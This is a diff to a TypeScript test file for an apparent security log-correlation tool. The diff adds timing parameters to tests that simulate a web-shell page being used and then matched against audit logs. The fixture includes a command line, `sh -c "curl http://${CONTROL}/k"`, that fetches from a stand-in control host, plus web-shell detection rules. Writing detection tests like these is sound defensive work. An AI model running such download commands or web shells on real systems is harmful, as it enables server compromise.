@@ -11,10 +11,18 @@ interface Told {
   readonly auditPath?: string
   /** Does a sensor see the connections that come to the server? */
   readonly sensor?: boolean
+  /** Minutes after midnight at which the page is asked, and minutes at which its server starts something. */
+  readonly asked?: readonly number[]
+  readonly started?: readonly number[]
 }
 
 /** A page is used from outside, the server's audit log (which names no host) shows what it started, and both lie in one folder. */
-async function story({ auditPath = 'web/audit.log', sensor = true }: Told): Promise<readonly string[]> {
+async function story({
+  auditPath = 'web/audit.log',
+  sensor = true,
+  asked = [170],
+  started = [171],
+}: Told): Promise<readonly string[]> {
   const access = new ItemBuilder('web/portal.access.log')
   const audit = new ItemBuilder(auditPath)
   const conn = new ItemBuilder('zeek/conn.log')
@@ -31,28 +39,30 @@ async function story({ auditPath = 'web/audit.log', sensor = true }: Told): Prom
     )
   }
   for (let visit = 0; visit < 8; visit++) ask(20 * visit, `198.51.100.${10 + visit}`, 'GET', '/portal/')
-  ask(170, '203.0.113.77', 'POST', '/portal/uploads/tide.php')
+  for (const minute of asked) ask(minute, '203.0.113.77', 'POST', '/portal/uploads/tide.php')
   access.hit('web-shell/lone-page', 'Page used like a web shell', '/portal/uploads/tide.php', {
     severity: 'high',
     techniques: ['T1505.003'],
     addresses: ['203.0.113.77'],
   })
-  audit.add(
-    iso(171),
-    {
-      kind: 'process_activity',
-      action: 'start',
-      image: '/usr/bin/dash',
-      commandLine: `sh -c "curl http://${CONTROL}/k"`,
-      user: 'www-data',
-    },
-    { product: 'auditd' },
-  )
-  audit.hit('web-shell/worker-starts-shell', 'a process of www-data started a shell', 'sh', {
-    severity: 'critical',
-    techniques: ['T1505.003', 'T1059.004'],
-    addresses: [CONTROL],
-  })
+  for (const minute of started) {
+    audit.add(
+      iso(minute, 2),
+      {
+        kind: 'process_activity',
+        action: 'start',
+        image: '/usr/bin/dash',
+        commandLine: `sh -c "curl http://${CONTROL}/k"`,
+        user: 'www-data',
+      },
+      { product: 'auditd' },
+    )
+    audit.hit('web-shell/worker-starts-shell', 'a process of www-data started a shell', 'sh', {
+      severity: 'critical',
+      techniques: ['T1505.003', 'T1059.004'],
+      addresses: [CONTROL],
+    })
+  }
   const store = await storeItems(sensor ? [access.item(), audit.item(), conn.item()] : [access.item(), audit.item()])
   try {
     const { incidents } = await correlate({ drafts: [], queries: store, assets: undefined, marks: [] })
@@ -75,4 +85,16 @@ test('a log in another folder may be any machine’s, and nobody came from an ad
   const told = await story({ auditPath: 'other/audit.log' })
   expect(told).toHaveLength(2)
   expect(told.join()).not.toContain(CONTROL)
+})
+
+const USED = [170, 174, 179, 188]
+
+test('a log in another folder whose processes start when a page is asked for is that server’s', async () => {
+  const told = await story({ auditPath: 'other/audit.log', asked: USED, started: USED })
+  expect(told.map(steps => steps.split(', ').toSorted())).toEqual([['10.5.1.20 -> 10.5.1.20', '203.0.113.77 -> 10.5.1.20']])
+})
+
+test('starts at other times are any machine’s', async () => {
+  const told = await story({ auditPath: 'other/audit.log', asked: USED, started: USED.map(minute => minute + 2) })
+  expect(told).toHaveLength(2)
 })
